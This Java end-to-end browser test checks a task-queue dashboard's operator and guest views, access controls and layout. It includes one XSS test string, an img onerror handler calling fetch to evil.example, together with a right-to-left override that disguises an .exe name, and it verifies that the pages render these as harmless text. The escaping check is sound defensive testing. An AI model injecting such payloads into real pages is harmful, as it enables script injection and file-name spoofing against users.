package io.kairos.server.wiring;

import static io.kairos.server.browser.BrowserSession.button;
import static java.nio.charset.StandardCharsets.UTF_8;
import static java.util.Objects.requireNonNull;
import static org.assertj.core.api.Assertions.assertThat;

import com.google.protobuf.util.Durations;
import io.kairos.api.v1.CronEntry;
import io.kairos.api.v1.PutCronEntryRequest;
import io.kairos.api.v1.PutCronTableRequest;
import io.kairos.client.KairosClient;
import io.kairos.client.ScheduleSpec;
import io.kairos.client.TaskRequest;
import io.kairos.client.handler.Handler;
import io.kairos.client.queue.HandlerPause;
import io.kairos.client.queue.QueueLimit;
import io.kairos.client.route.DeadLetterQuery;
import io.kairos.client.task.PayloadCodec;
import io.kairos.client.task.RetryPolicy;
import io.kairos.client.task.TaskId;
import io.kairos.client.task.TaskState;
import io.kairos.client.worker.Worker;
import io.kairos.embedded.EmbeddedKafka;
import io.kairos.embedded.EmbeddedPostgres;
import io.kairos.server.browser.BrowserSession;
import java.io.IOException;
import java.io.InputStream;
import java.net.URLEncoder;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.TreeMap;
import java.util.UUID;
import java.util.concurrent.atomic.AtomicBoolean;
import java.util.regex.MatchResult;
import java.util.regex.Pattern;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.AutoClose;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.openqa.selenium.By;

/**
 * The dashboard in two browsers, as people use it: one of an operator, one of somebody who may only
 * read. A node with work of every kind serves it, and a replica. The windows are as wide as those
 * of a computer and of a telephone.
 *
 * <p>With {@code -Dkairos.images=<folder>} it also writes the pictures of the documentation there.
 */
@Timeout(240)
class BrowserEndToEndTest {
  private static final String RUN = UUID.randomUUID().toString().substring(0, 8);
  private static final String OPERATOR = "token-of-operator";
  private static final String GUEST = "token-of-guest";
  private static final int WIDE = 1280;
  private static final int NARROW = 390;
  private static final int LARGEST_PAYLOAD = 1_000_000;

  /** A picture that runs a script, and the end of a name turned around. */
  private static final String HOSTILE =
      "<img src=x onerror=\"document.title='owned';fetch('https://evil.example/')\">\u202Egnp.exe";

  private static final String SHOWN =
      "<img src=x onerror=\"document.title='owned';fetch('https://evil.example/')\">‹U+202E›gnp.exe";

  private static final String LENGTH_OF_PAYLOAD =
      "return [...document.querySelectorAll('main pre k-text bdi')].at(-1).textContent.length";
  private static final String BEGIN_OF_PAYLOAD =
      "return [...document.querySelectorAll('main pre k-text bdi')].at(-1).textContent.slice(0, 200)";

  private static final Pattern SCREEN =
      Pattern.compile("\\{ name: '(\\w+)', path: '([^']*)', .* on: '(\\w+)'");

  @TempDir private static Path folder;

  @AutoClose private static RunningNode node;
  @AutoClose private static KairosClient client;
  @AutoClose private static Worker worker;
  @AutoClose private static PoolEndpoint endpoint;
  @AutoClose private static Application application;
  @AutoClose private static Replicas replicas;
  @AutoClose private static BrowserSession operator;
  @AutoClose private static BrowserSession guest;
  private static TaskId dead;

  @BeforeAll
  static void start() throws Exception {
    BrowserSession.requireInstalled();
    List<String> settings = new ArrayList<>(List.of(Configured.route(RUN)));
    settings.addAll(Configured.caller("operator", OPERATOR, "submit,read,worker,admin"));
    settings.addAll(Configured.caller("guest", GUEST, "read"));
    node =
        Configured.startedOn(
            EmbeddedPostgres.shared().newDatabase(), settings.toArray(String[]::new));
    client = KairosClient.builder(Configured.address(node)).token(OPERATOR).build();
    endpoint = PoolEndpoint.of(client, "shop", _ -> {});
    application = new Application(EmbeddedKafka.shared().bootstrapServers());
    worker = worker("mail", (_, _) -> {});
    work();
    replicas = replica();
    String origin = "http://" + Configured.address(node);
    operator = BrowserSession.start(origin);
    operator.load("/ui/");
    operator.logIn(OPERATOR);
    guest = BrowserSession.start(origin);
  }

  /** What the screens show. */
  private static void work() {
    for (int i = 0; i < 60; i++) {
      client.schedule(TaskRequest.to("mail").payload("to customer " + i).build());
      client.schedule(
          TaskRequest.to("mail")
              .payload("{\"customer\": " + i + "}")
              .delay(Duration.ofMinutes(i))
              .build());
    }
    client.handlers().limit(new QueueLimit("mail", 50, 100, null, null, 0));
    client
        .schedules()
        .create(
            ScheduleSpec.named("reports/daily")
                .cron("0 9 * * MON-FRI")
                .zone("Europe/Berlin")
                .handler("mail")
                .build());
    client
        .schedules()
        .create(
            ScheduleSpec.named("every-second")
                .every(Duration.ofSeconds(1))
                .handler("mail")
                .build());
    application.send(
        Application.message(RUN + ".in", null, "later", "kairos-id", RUN, "kairos-delay", "PT1H"));
    application.send(Application.message(RUN + ".in", null, "no id", "kairos-delay", "PT1H"));
    dead = failed("charge", "{\"order\": 4711}");
  }

  /** A task that has failed for good, whose worker has gone. */
  private static TaskId failed(String handler, String payload) {
    try (Worker _ =
        worker(
            handler,
            (_, _) -> {
              throw new IllegalStateException("the bank has refused card 1234");
            })) {
      TaskId id =
          client.schedule(
              TaskRequest.to(handler)
                  .payload(payload)
                  .retryPolicy(RetryPolicy.attempts(1))
                  .build());
      await(id, TaskState.DEAD);
      return id;
    }
  }

  private static Replicas replica() {
    Replicas one =
        new Replicas(
            1,
            folder,
            "replica.cluster=" + RUN,
            "replica.node=http://" + Configured.address(node),
            "replica.node-token=" + OPERATOR);
    Replicas.await("ready", () -> one.replica(0).obstacles().isEmpty());
    one.calls(0)
        .putCronTable(
            PutCronTableRequest.newBuilder()
                .setComponent(1)
                .setTick(Durations.fromMillis(500))
                .build());
    one.calls(0)
        .putCronEntry(
            PutCronEntryRequest.newBuilder()
                .setEntry(
                    CronEntry.newBuilder()
                        .setComponent(1)
                        .setPosition(1)
                        .setEvery(Durations.fromSeconds(1))
                        .setEnqueueTask(CronEntry.EnqueueTask.newBuilder().setHandler("mail")))
                .build());
    return one;
  }

  private static Worker worker(String handler, Handler<? super String> code) {
    Worker started = Worker.builder(Configured.address(node)).token(OPERATOR).build();
    started.handle(handler, PayloadCodec.utf8(), code);
    started.start();
    return started;
  }

  private static void await(TaskId id, TaskState state) {
    Replicas.await(state + " of " + id, () -> client.get(id).state() == state);
  }

  @AfterEach
  void no_page_has_done_what_it_must_not() {
    // Tests read the faults that they expect.
    assertThat(operator.faults()).isEmpty();
    assertThat(guest.faults()).isEmpty();
  }

  @ParameterizedTest
  @ValueSource(ints = {WIDE, NARROW})
  void a_task_that_has_failed_for_good_is_found_from_the_overview_and_run_again(int width) {
    String handler = "invoice-" + width;
    AtomicBoolean mended = new AtomicBoolean();
    operator.resize(width);
    try (Worker _ =
        worker(
            handler,
            (_, _) -> {
              if (!mended.get()) {
                throw new IllegalStateException("the printer is on fire");
              }
            })) {
      TaskId id =
          client.schedule(
              TaskRequest.to(handler)
                  .payload("{\"order\": 7}")
                  .retryPolicy(RetryPolicy.attempts(1))
                  .build());
      await(id, TaskState.DEAD);

      operator.show("/ui/");
      operator.click(
          By.xpath(
              "//k-failure-table//tr[.//a[normalize-space()='%s']]//td[@data-label='Tasks']/a"
                  .formatted(handler)));
      operator.click(By.cssSelector("main table a[href='/ui/tasks/" + id + "']"));
      operator.read("main", "Attempt 1 failed", "IllegalStateException", "the printer is on fire");
      mended.set(true);
      operator.press("Run again…");
      operator.confirm("Run 1 task again");

      operator.read("main .life", "Attempt 1 failed", "Due again", "Attempt 1 began", "succeeded");
      assertThat(operator.barriers()).isEmpty();
    }
  }

  @ParameterizedTest
  @ValueSource(ints = {WIDE, NARROW})
  void a_queue_that_one_browser_pauses_is_shown_paused_in_another_that_shows_it(int width) {
    String handler = "export-" + width;
    client.schedule(TaskRequest.to(handler).delay(Duration.ofHours(1)).build());
    operator.resize(width);
    guest.resize(width);
    guestIsLoggedIn();
    By note = By.xpath("//section[h2='Pauses']//*[text()='until the move is over']");
    guest.show("/ui/handlers/" + handler);
    assertThat(guest.sees(note)).isFalse();

    operator.show("/ui/handlers/" + handler);
    operator.press("Pause…");
    operator.fill("note", "until the move is over");
    operator.confirm("Pause");

    operator.see(note);
    guest.see(note);
    assertThat(guest.sees(button("Resume"))).isFalse();
    assertThat(guest.barriers()).isEmpty();
    operator.press("Resume…");
    operator.confirm("Resume");
    operator.gone(note);
    guest.gone(note);
  }

  @ParameterizedTest
  @ValueSource(ints = {WIDE, NARROW})
  void a_dead_letter_of_the_delay_queue_is_corrected_and_published_once(int width) {
    String key = "letter-" + width;
    application.send(
        Application.message(RUN + ".in", key, HOSTILE, "kairos-delay", "PT1H", HOSTILE, HOSTILE));
    Replicas.await(
        "the letter is parked",
        () ->
            client.deadLetters(DeadLetterQuery.of("only")).stream()
                .anyMatch(letter -> Arrays.equals(letter.key(), key.getBytes(UTF_8))));
    operator.resize(width);
    operator.show("/ui/delay");
    operator.click(By.linkText("Dead letters"));
    operator.read("main", "Dead letters of only", "missing-id", "Only these", "missing-id", key);
    By again =
        By.xpath(
            "//tr[.//*[contains(text(), '%s')]]//button[starts-with(., 'Publish again')]"
                .formatted(key));

    operator.click(again);
    operator.click(By.xpath("//dialog[@open]//button[@type='submit']"));
    operator.read("dialog", "would become a dead letter again (missing-id)");
    operator.fill("changed", "kairos-id: " + key);
    operator.confirm("Publish 1 message");
    operator.read("body", "Published: partition");
    assertHarmless();
    assertThat(operator.barriers()).isEmpty();

    operator.click(again);
    operator.fill("changed", "kairos-id: " + key);
    operator.click(By.xpath("//dialog[@open]//button[@type='submit']"));
    operator.read("dialog", "published again before");
    operator.press("Back");
    assertThat(operator.faults(400, 409)).isEmpty();
  }

  @ParameterizedTest
  @ValueSource(ints = {WIDE, NARROW})
  void hostile_names_errors_and_payloads_are_shown_as_text(int width) {
    String handler = "hostile-" + width;
    String payload = HOSTILE + '\0' + "x".repeat(LARGEST_PAYLOAD - HOSTILE.length() - 3);
    assertThat(payload.getBytes(UTF_8)).hasSize(LARGEST_PAYLOAD);
    TaskId id;
    try (Worker _ =
        worker(
            handler,
            (_, _) -> {
              throw new IllegalStateException(HOSTILE + '\0');
            })) {
      id =
          client.schedule(
              TaskRequest.to(handler)
                  .payload(payload)
                  .key(HOSTILE)
                  .collection(HOSTILE)
                  .retryPolicy(RetryPolicy.attempts(1))
                  .build());
      await(id, TaskState.DEAD);
    }
    client.handlers().setPause(HandlerPause.pause(handler).of(HOSTILE).because(HOSTILE));
    operator.resize(width);
    String escaped = URLEncoder.encode(HOSTILE, UTF_8).replace("+", "%20");

    operator.show("/ui/tasks/" + id);
    operator.read("main .life", "Attempt 1 failed", SHOWN);
    operator.press("Show payload");
    operator.press("show all 999,998 characters");
    Replicas.await(
        "the payload",
        () -> operator.script(LENGTH_OF_PAYLOAD) instanceof Long length && length > 1_000_000);
    assertThat((String) operator.script(BEGIN_OF_PAYLOAD)).startsWith(SHOWN + "‹U+0000›xxx");
    assertHarmless();
    for (String page :
        List.of(
            "/ui/failures",
            "/ui/handlers/" + handler,
            "/ui/tasks?handler=" + handler,
            "/ui/tasks?handler=" + handler + "&key=" + escaped)) {
      operator.show(page);
      operator.read("main", SHOWN);
      assertHarmless();
    }
    for (String page : List.of("tasks", "handlers", "schedules")) {
      operator.show("/ui/" + page + "/" + escaped);
      operator.read("main h1", SHOWN);
      assertHarmless();
    }
    operator.show("/ui/tasks?handler=" + escaped);
    assertHarmless();
    assertThat(operator.faults(400, 404)).isEmpty();
    client.handlers().endPause(handler, HOSTILE);
  }

  /** What a name or payload might have made is not there, and the page is as wide as the window. */
  private static void assertHarmless() {
    assertThat(operator.script("return document.querySelectorAll('main img, main script').length"))
        .isEqualTo(0L);
    assertThat(operator.script("return document.title")).isNotEqualTo("owned");
    assertThat(
            operator.script(
                "return document.documentElement.scrollWidth > document.documentElement.clientWidth"))
        .isEqualTo(false);
  }

  @ParameterizedTest
  @ValueSource(ints = {WIDE, NARROW})
  void somebody_who_may_only_read_logs_in_sees_no_buttons_and_is_refused_all_the_same(int width) {
    guest.resize(width);
    guest.forget();
    guest.load("/ui/handlers/charge");
    guest.see(By.name("token"));
    assertThat(guest.barriers()).isEmpty();
    guest.logIn("a token that nobody has");
    guest.see(By.cssSelector("main .problem"));
    assertThat(guest.faults(401)).isEmpty();

    guest.logIn(GUEST);

    guest.read("main h1", "charge");
    for (String page :
        List.of(
            "/ui/",
            "/ui/failures",
            "/ui/tasks?state=DEAD",
            "/ui/tasks/" + dead,
            "/ui/handlers/charge",
            "/ui/schedules/every-second",
            "/ui/pools")) {
      guest.show(page);
      assertThat(guest.texts(By.cssSelector("main button, main a.button")))
          .as(page)
          .noneMatch(text -> text.endsWith("…") || text.matches("Run now|Change|New schedule"));
    }
    String pause = "/v1/handlers/charge/pause";
    Map<String, String> json = Map.of("content-type", "application/json");
    Map<String, String> ours = Map.of("content-type", "application/json", "x-kairos-ui", "1");
    assertThat(guest.call("GET", "/v1/handlers", ours, "")).isEqualTo(200);
    assertThat(guest.call("PUT", pause, ours, "{\"mode\": \"PAUSE\"}")).isEqualTo(403);
    assertThat(guest.call("PUT", pause, json, "{\"mode\": \"PAUSE\"}")).isEqualTo(401);
    assertThat(client.handlers().pauses()).noneMatch(each -> each.handler().equals("charge"));

    guest.openMenu();
    guest.press("Log out");
    guest.see(By.name("token"));
    assertThat(guest.call("GET", "/v1/handlers", ours, "")).isEqualTo(401);
    assertThat(guest.faults(401, 403)).isEmpty();
  }

  private static void guestIsLoggedIn() {
    guest.forget();
    guest.load("/ui/");
    guest.logIn(GUEST);
    guest.settle();
  }

  @ParameterizedTest
  @ValueSource(ints = {WIDE, NARROW})
  void a_schedule_is_created_in_the_editor_fired_paused_and_explained(int width) {
    String name = "reports/at-" + width;
    operator.resize(width);
    operator.show("/ui/schedules");
    operator.click(By.linkText("New schedule"));
    operator.fill("name", name);
    operator.fill("expression", "30 6 * * MON-FRI");
    operator.fill("timeZone", "Europe/Berlin");
    operator.fill("handler", "mail");
    operator.read(".preview", "at 06:30", "Europe/Berlin");
    assertThat(operator.barriers()).isEmpty();
    operator.press("Check and create…");
    operator.confirm("Create 1 schedule");

    operator.read("main h1", name);
    operator.press("Fire now…");
    operator.confirm("Fire once");
    operator.see(By.cssSelector(".ledger .fired, .ledger .running"));
    operator.read("section[aria-live]", "It made");

    operator.press("Pause…");
    operator.fill("note", "the printer is away");
    operator.confirm("Pause");
    operator.read("main .note", "the printer is away");

    operator.press("Explain");
    operator.read("section[aria-live]", "Now", "paused");
    assertThat(operator.barriers()).isEmpty();
  }

  /** Light in the wide window, dark in the narrow one. */
  @Test
  void every_screen_is_usable_by_everybody_at_both_widths() throws IOException {
    Map<String, String> pages = new TreeMap<>();
    String replica = "http://127.0.0.1:" + replicas.replica(0).port();
    Map<String, List<String>> found = new TreeMap<>();
    for (MatchResult screen : screens()) {
      String path = requireNonNull(screen.group(2));
      if (screen.group(3).equals("node")) {
        pages.put(
            requireNonNull(screen.group(1)),
            "/ui/"
                + path.replace("tasks/:id", "tasks/" + dead)
                    .replace("handlers/:name", "handlers/mail")
                    .replace("schedules/:name", "schedules/every-second"));
      } else {
        try (BrowserSession other = BrowserSession.start(replica)) {
          add(found, screen.group(1), look(other, "/ui/" + path));
        }
      }
    }
    pages.put("schedules as a calendar", "/ui/schedules?view=calendar");
    pages.put("dead letters", "/ui/delay?route=only");
    pages.put("failed tasks", "/ui/tasks?state=DEAD&state=FAILED");
    assertThat(pages).hasSizeGreaterThan(10);
    assertThat(pages.values()).noneMatch(path -> path.contains(":"));
    for (Map.Entry<String, String> page : pages.entrySet()) {
      add(found, page.getKey(), look(operator, page.getValue()));
      picture(page.getKey());
    }
    assertThat(found).isEmpty();
  }

  private static void add(Map<String, List<String>> found, String name, List<String> faults) {
    if (!faults.isEmpty()) {
      found.put(name, faults);
    }
  }

  /** What is wrong with a page. */
  private static List<String> look(BrowserSession browser, String path) {
    browser.resize(WIDE);
    browser.show(path);
    List<String> wrong = new ArrayList<>(browser.barriers());
    browser.resize(NARROW);
    browser.colours("dark");
    wrong.addAll(browser.barriers());
    browser.colours("light");
    wrong.addAll(browser.faults(404, 501));
    return wrong;
  }

  private static void picture(String screen) throws IOException {
    Optional<String> images = Optional.ofNullable(System.getProperty("kairos.images"));
    if (images.isPresent()
        && List.of("overview", "tasks", "failures", "schedule").contains(screen)) {
      operator.resize(WIDE);
      operator.picture(Path.of(images.get()).resolve("dashboard-" + screen + ".png"));
    }
  }

  private static List<MatchResult> screens() throws IOException {
    try (InputStream in =
        requireNonNull(BrowserEndToEndTest.class.getResourceAsStream("/io/kairos/ui/screens.js"))) {
      return SCREEN.matcher(new String(in.readAllBytes(), UTF_8)).results().toList();
    }
  }
}
